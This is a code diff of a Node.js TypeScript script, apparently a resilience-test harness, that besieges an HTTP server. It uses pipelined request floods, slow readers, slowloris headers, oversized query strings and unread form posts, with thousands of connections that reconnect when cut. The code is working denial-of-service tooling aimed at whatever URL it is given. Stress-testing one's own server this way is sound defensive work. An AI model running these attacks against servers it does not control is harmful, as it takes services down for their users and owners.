@@ -1,64 +1,76 @@
 /**
- * Those who besiege a server, in a process of their own: `node siege-attackers.ts URL FILE`. Whoever is cut off comes
- * again. Ends on SIGTERM with one JSON line about what was done.
+ * One kind of attacker, in its own process: `node siege-attackers.ts KIND URL PATH`. An attacker whose connection is cut
+ * comes back. Stops on SIGTERM.
  */
 import { connect, type Socket } from 'node:net'
 
-const attackers = { pipelining: 100, slowReaders: 2000, slowloris: 1500 } as const
-
-const [url = '', file = '/'] = process.argv.slice(2)
+const [kind = '', url = '', path = '/'] = process.argv.slice(2)
 const { hostname, port } = new URL(url)
 
-const connections = { pipelining: 0, slowReaders: 0, slowloris: 0 }
-
-type Attacker = keyof typeof attackers
-
-/** Keeps so many connections open, one after the other cut off. */
-function besiege(attacker: Attacker, act: (socket: Socket) => () => void): void {
-  const comeAgain = () => {
-    connections[attacker]++
-    let stop = () => {}
+/** Keeps this many connections open. */
+function keepOpen(count: number, act: (socket: Socket) => NodeJS.Timeout | undefined): void {
+  const comeBack = () => {
+    let timer: NodeJS.Timeout | undefined
     const socket = connect(Number(port), hostname, () => {
-      stop = act(socket)
+      timer = act(socket)
     })
     socket.on('error', () => {})
     socket.on('close', () => {
-      stop()
-      setTimeout(comeAgain, 50)
+      clearInterval(timer)
+      setTimeout(comeBack, 50)
     })
   }
-  for (let index = 0; index < attackers[attacker]; index++) setTimeout(comeAgain, index)
+  for (let index = 0; index < count; index++) setTimeout(comeBack, index)
 }
 
 const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`
-const flood = Buffer.from(get('/').repeat(2520))
+const queryBomb = get(`/?${'%41&'.repeat(3800)}`)
+const pageFlood = Buffer.from(get('/').repeat(2500))
+const body = `firstName=${'%3C'.repeat(14_000)}`
+const echoedForm = `POST /api/leads HTTP/1.1\r\nHost: localhost\r\nOrigin: ${url}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`
 
-besiege('pipelining', socket => {
-  socket.pause()
-  const write = () => {
-    while (!socket.destroyed && socket.write(flood));
-  }
-  socket.on('drain', write)
-  write()
-  return () => {}
-})
+const attacks: Readonly<Record<string, () => void>> = {
+  pipelining: () =>
+    keepOpen(100, socket => {
+      socket.pause()
+      const write = () => {
+        while (!socket.destroyed && socket.write(pageFlood));
+      }
+      socket.on('drain', write)
+      write()
+      return undefined
+    }),
+  slowReaders: () =>
+    keepOpen(2000, socket => {
+      socket.pause()
+      socket.write(get(path).repeat(4))
+      return setInterval(() => socket.read(1024), 1000)
+    }),
+  slowHeaders: () =>
+    keepOpen(1500, socket => {
+      socket.resume()
+      socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
+      return setInterval(() => socket.write('X-Patience: none\r\n'), 3000)
+    }),
+  queryBombs: () =>
+    keepOpen(8, socket => {
+      socket.resume()
+      // Eight connections with ten a second each: 80 requests, 1.2 MB of query.
+      return setInterval(() => socket.write(queryBomb), 100)
+    }),
+  unreadForms: () =>
+    keepOpen(1500, socket => {
+      socket.pause()
+      socket.write(echoedForm)
+      return undefined
+    }),
+  unreadAssets: () =>
+    keepOpen(200, socket => {
+      socket.pause()
+      socket.write(get(path).repeat(20))
+      return undefined
+    }),
+}
 
-besiege('slowReaders', socket => {
-  socket.pause()
-  // As much as a client may ask for without having read it.
-  socket.write(get(file).repeat(4))
-  const timer = setInterval(() => socket.read(1024), 1000)
-  return () => clearInterval(timer)
-})
-
-besiege('slowloris', socket => {
-  socket.resume()
-  socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
-  const timer = setInterval(() => socket.write('X-Patience: none\r\n'), 3000)
-  return () => clearInterval(timer)
-})
-
-process.on('SIGTERM', () => {
-  const { user, system } = process.cpuUsage()
-  process.stdout.write(`${JSON.stringify({ connections, cpuSeconds: (user + system) / 1e6 })}\n`, () => process.exit())
-})
+attacks[kind]?.()
+process.on('SIGTERM', () => process.exit())
